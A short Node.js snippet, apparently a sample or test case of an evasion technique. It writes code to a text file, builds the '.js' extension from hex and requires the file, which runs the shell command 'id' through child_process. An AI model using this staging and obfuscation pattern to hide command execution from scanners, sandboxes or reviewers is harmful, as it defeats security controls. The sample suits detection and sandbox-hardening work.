// Payload staged as a text file, renamed to an extension decoded from hex, then required.
const fs = require('fs');

fs.writeFileSync('job.txt', "console.log(process.getBuiltinModule('child_process').execSync('id').toString());\n");
const ext = Buffer.from('6a73', 'hex').toString();     // 'js'
fs.renameSync('job.txt', 'job.' + ext);
require('./job.js');
